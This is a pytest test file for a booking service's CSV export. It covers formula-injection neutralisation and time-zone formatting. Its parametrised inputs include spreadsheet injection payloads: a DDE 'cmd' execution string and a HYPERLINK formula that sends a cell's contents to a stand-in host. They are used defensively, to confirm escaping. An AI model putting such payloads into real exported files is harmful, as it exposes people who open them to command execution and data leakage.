"""Tables in CSV: hostile cells and local times."""

import csv
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from io import StringIO

import pytest

from booking.entrypoints.http.csv_tables import Table, harmless
from booking.entrypoints.http.wire import Instant, Output
from booking.service.delivery.exports import Zoned


class Inner(Output):
    at: Instant | None


class Item(Output):
    name: str
    done: bool
    at: Instant
    inner: Inner | None = None


TABLE: Table[Item] = Table("items", lambda item: item, "name", "done", "at", "inner.at", "time_zone", again="name")


def written(*rows: Zoned[Item]) -> Sequence[dict[str, str]]:
    text = TABLE.answer([TABLE.write([row]) for row in rows]).content.decode()
    assert text.endswith("\r\n")
    assert not text.startswith("\ufeff")
    return list(csv.DictReader(StringIO(text, newline="")))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\tharmless but for the tab",
        "\rharmless",
        "\nharmless",
        "  =1",
        '"=1',
        "'=1",
        " \" ' =1",
        "\u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        ";=1",
        ",=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?x="&A1,"here")',
        "-",
    ],
)
def test_a_formula_has_an_apostrophe_before_it_and_comes_as_one_cell(text: str) -> None:
    (row,) = written(Zoned("UTC", Item(name=text, done=False, at=datetime(2026, 1, 1, tzinfo=UTC))))
    assert row["name"] == row["again"] == harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "Ada", "a=b", "1-2", "x@y.example", "it's", 'a "quoted", word', "two\r\nlines", "ü€😀"]
)
def test_any_other_text_comes_as_it_is(text: str) -> None:
    (row,) = written(Zoned("UTC", Item(name=text, done=True, at=datetime(2026, 1, 1, tzinfo=UTC))))
    assert row["name"] == text
    assert row["done"] == "true"


def test_times_are_local_with_their_offset_on_both_sides_of_a_change_of_the_clock() -> None:
    autumn = datetime(2026, 10, 25, 0, 30, tzinfo=UTC)
    instants = [
        autumn,
        autumn + timedelta(hours=1),
        datetime(2026, 3, 29, 0, 59, tzinfo=UTC),
        datetime(2026, 3, 29, 1, tzinfo=UTC),
    ]
    rows = written(*(Zoned("Europe/Warsaw", Item(name="", done=False, at=at, inner=Inner(at=at))) for at in instants))
    assert [row["at"] for row in rows] == [
        "2026-10-25T02:30:00+02:00",
        "2026-10-25T02:30:00+01:00",
        "2026-03-29T01:59:00+01:00",
        "2026-03-29T03:00:00+02:00",
    ]
    assert [row["inner_at"] for row in rows] == [row["at"] for row in rows]
    assert [datetime.fromisoformat(row["at"]) for row in rows] == instants
    assert {row["time_zone"] for row in rows} == {"Europe/Warsaw"}


def test_each_row_has_its_own_zone_and_what_is_not_there_is_empty() -> None:
    at = datetime(2026, 7, 1, 12, 0, 0, 123456, tzinfo=UTC)
    first, second = (Item(name="x", done=False, at=at, inner=inner) for inner in (None, Inner(at=None)))
    found = [list(row.values()) for row in written(Zoned("Asia/Kathmandu", first), Zoned("UTC", second))]
    assert found == [
        ["x", "false", "2026-07-01T17:45:00.123456+05:45", "", "Asia/Kathmandu", "x"],
        ["x", "false", "2026-07-01T12:00:00.123456+00:00", "", "UTC", "x"],
    ]


def test_an_instant_that_the_zone_has_in_no_year_is_told_in_utc() -> None:
    (row,) = written(Zoned("Asia/Tokyo", Item(name="", done=False, at=datetime(9999, 12, 31, 23, tzinfo=UTC))))
    assert row["at"] == "9999-12-31T23:00:00+00:00"
